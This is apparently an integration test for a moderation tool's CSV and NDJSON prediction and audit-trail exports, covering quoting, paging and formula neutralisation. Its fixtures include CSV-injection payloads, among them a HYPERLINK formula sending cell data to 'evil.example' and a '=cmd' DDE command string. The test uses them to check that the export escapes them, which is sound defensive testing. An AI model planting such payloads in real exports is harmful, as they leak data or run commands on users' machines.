import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DeskEntity } from '#database';
import { PredictionsService } from '#models';
import { DATABASE_KINDS } from '../support/databases.js';
import { eventually, startStack, type Stack } from '../support/stack.js';
import { webDesk, type WebDesk } from '../support/web-desk.js';

/** A text that needs every CSV quoting rule: comma, double quote, line break. */
const QUOTED = 'she said "see you, later"\nat the corner, again';
/** Texts a spreadsheet would run as formulas: one per leading character of OWASP's CSV injection list. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"open me")',
  '+SUM(1,2) in a post',
  '-2+3 and then some',
  '@SUM(A1:A2)',
  '\t=1+1 after a tab',
  '\r=1+1 after a carriage return',
];

describe.each(DATABASE_KINDS)('the predictions export on %s', (kind) => {
  let s: Stack;
  let desk: WebDesk;
  beforeAll(async () => {
    s = await startStack(kind);
    desk = await webDesk(s, { pool: 300, verdicts: 60, extraTexts: [QUOTED, ...FORMULAS] });
  }, 180_000);
  afterAll(async () => (s as Stack | undefined)?.stop());

  /** Every open item with its prediction, through the paged JSON route the screens use. */
  async function pagedItems() {
    const out: Array<{
      id: number;
      externalId: string;
      prediction: { set: string[]; call: string; probabilities: Record<string, number> };
    }> = [];
    for (let cursor: string | null = null; ;) {
      const page: { items: typeof out; nextCursor: string | null } = (
        await s.call(desk.sup, 'GET', `/api/desks/${desk.deskId}/items?limit=500${cursor ? `&cursor=${cursor}` : ''}`)
      ).body;
      out.push(...page.items);
      cursor = page.nextCursor;
      if (!cursor) return out;
    }
  }

  it('streams every open item as CSV (RFC 4180) and NDJSON, agreeing with the items route', async () => {
    const items = await pagedItems();
    expect(items.length).toBeGreaterThan(200);
    const csvRes = await fetch(`${s.base}/api/desks/${desk.deskId}/predictions.csv`, {
      headers: { authorization: `Bearer ${desk.sup}` },
    });
    expect(csvRes.status).toBe(200);
    expect(csvRes.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csvRes.headers.get('content-disposition')).toBe(
      `attachment; filename="desk-${desk.deskId}-predictions.csv"`,
    );
    const csv = await csvRes.text();
    expect(csv.endsWith('\r\n')).toBe(true);
    const records = parse<Record<string, string>>(csv, { columns: true });
    expect(records).toHaveLength(items.length);
    const ndjson = (
      await (
        await fetch(`${s.base}/api/desks/${desk.deskId}/predictions.ndjson`, {
          headers: { authorization: `Bearer ${desk.sup}` },
        })
      ).text()
    )
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(ndjson).toHaveLength(items.length);
    for (const [i, item] of items.entries()) {
      expect(Number(records[i].item_id)).toBe(item.id);
      expect(records[i].set).toBe(item.prediction.set.join('|'));
      expect(records[i].call).toBe(item.prediction.call);
      expect(Number(records[i].p_threat)).toBeCloseTo(item.prediction.probabilities.threat, 12);
      expect(ndjson[i]).toMatchObject({
        itemId: item.id,
        externalId: item.externalId,
        set: item.prediction.set,
        call: item.prediction.call,
      });
    }
  });

  it('quotes texts with commas, quotes and line breaks so they read back unchanged', async () => {
    const csv = await (
      await fetch(`${s.base}/api/desks/${desk.deskId}/predictions.csv`, {
        headers: { authorization: `Bearer ${desk.sup}` },
      })
    ).text();
    // The extra texts came after the setup's verdicts: still open.
    const rows = parse<Record<string, string>>(csv, { columns: true }).filter((r) => r.external_id === 'extra-0');
    expect(rows).toHaveLength(1);
    expect(rows[0].text).toBe(QUOTED);
    const raw = csv.split('\r\n').find((l) => l.includes('she said'));
    expect(raw).toContain('"she said ""see you, later""');
  });

  it('neutralises formula-leading texts for spreadsheets, and writes them as stored with raw=1', async () => {
    // Decoded by hand: Response.text() drops a byte order mark.
    const get = async (query: string) =>
      new TextDecoder('utf-8', { ignoreBOM: true }).decode(
        await (
          await fetch(`${s.base}/api/desks/${desk.deskId}/predictions.csv${query}`, {
            headers: { authorization: `Bearer ${desk.sup}` },
          })
        ).arrayBuffer(),
      );
    const open = await s.db.query<{ external_id: string }>(
      null,
      `SELECT external_id FROM items WHERE desk_id = $1 AND external_id LIKE 'extra-%' AND state <> 'decided'`,
      [desk.deskId],
    );
    const formulaIds = FORMULAS.map((_, i) => `extra-${i + 1}`).filter((id) => open.some((o) => o.external_id === id));
    // Imported after the setup's verdicts: every one is still open.
    expect(formulaIds).toHaveLength(FORMULAS.length);
    const textOf = (id: string) => FORMULAS[Number(id.slice('extra-'.length)) - 1];
    const safe = await get('');
    expect(safe.startsWith('item_id,')).toBe(true);
    const safeRows = parse<Record<string, string>>(safe, { columns: true, relax_quotes: false });
    for (const id of formulaIds) {
      const row = safeRows.find((r) => r.external_id === id);
      expect(row?.text).toBe(`'${textOf(id)}`);
    }
    // No text cell of the whole file begins with a formula character.
    expect(safeRows.filter((r) => /^[=+\-@\t\r]/.test(r.text))).toEqual([]);
    const raw = await get('?raw=1&bom=1');
    expect(raw.startsWith('\uFEFFitem_id,')).toBe(true);
    const rawRows = parse<Record<string, string>>(raw, { columns: true, bom: true });
    for (const id of formulaIds) expect(rawRows.find((r) => r.external_id === id)?.text).toBe(textOf(id));
    expect((await s.call(desk.sup, 'GET', `/api/desks/${desk.deskId}/predictions.csv?raw=yes`)).status).toBe(400);
  });

  it('neutralises formula-leading notes and category names in the decision trail', async () => {
    const d = await s.call(desk.sup, 'POST', '/api/desks', { name: 'formulas', categories: ['=cmd', '@alert', 'ok'] });
    expect(d.status).toBe(201);
    await s.enrol(d.body.id);
    const imp = await s.call(desk.sup, 'POST', `/api/desks/${d.body.id}/imports`, '{"text":"one post"}\n', {
      'content-type': 'application/x-ndjson',
    });
    await eventually(async () =>
      (await s.call(desk.sup, 'GET', `/api/imports/${imp.body.importId}`)).body.state === 'done' ? true : undefined,
    );
    const l = await s.call(desk.rev, 'POST', `/api/desks/${d.body.id}/leases`);
    const note = "=cmd|' /C calc'!A0";
    const v = await s.call(desk.rev, 'POST', `/api/desks/${d.body.id}/verdicts`, {
      leaseId: l.body.lease.id,
      itemId: l.body.item.id,
      category: '=cmd',
      clientId: 'formula-note',
      note,
    });
    expect(v.status).toBe(201);
    const trail = async (query: string) =>
      parse<Record<string, string>>(
        await (
          await fetch(`${s.base}/api/desks/${d.body.id}/trail.csv${query}`, {
            headers: { authorization: `Bearer ${desk.sup}` },
          })
        ).text(),
        { columns: true, bom: true },
      );
    const [safe] = await trail('');
    expect(safe.note).toBe(`'${note}`);
    expect(safe.category).toBe("'=cmd");
    const [raw] = await trail('?raw=1');
    expect(raw.note).toBe(note);
    expect(raw.category).toBe('=cmd');
    expect((await s.call(desk.sup, 'GET', `/api/desks/${d.body.id}/trail.csv?bom=2`)).status).toBe(400);
  });

  it('gives an item the current version did not score the same prediction, computed from its text', async () => {
    const [item] = await pagedItems();
    const entity = (await s.db.manager.findOneBy(DeskEntity, { id: desk.deskId }))!;
    const predictions = s.api.get(PredictionsService);
    const text = (await s.db.query<{ text: string }>(null, 'SELECT text FROM items WHERE id = $1', [item.id]))[0].text;
    const stored = await predictions.forItem(null, entity, item.id, text);
    await s.db.query(null, 'DELETE FROM predictions WHERE item_id = $1', [item.id]);
    const computed = await predictions.forItem(null, entity, item.id, text);
    expect(computed!.modelVersion).toBe(stored!.modelVersion);
    expect(computed!.set).toEqual(stored!.set);
    // Scoring reads the term counts kept at import, this path tokenises the text: the same numbers (to rounding).
    for (const [c, p] of Object.entries(stored!.probabilities)) expect(computed!.probabilities[c]).toBeCloseTo(p, 9);
  });

  it('answers 404 for an unknown desk and an empty export before any model', async () => {
    expect((await s.call(desk.sup, 'GET', '/api/desks/999999/predictions.csv')).status).toBe(404);
    const d = await s.call(desk.sup, 'POST', '/api/desks', { name: 'empty', categories: ['a', 'b'] });
    const r = await fetch(`${s.base}/api/desks/${d.body.id}/predictions.ndjson`, {
      headers: { authorization: `Bearer ${desk.sup}` },
    });
    expect(r.status).toBe(200);
    expect(await r.text()).toBe('');
  });
});
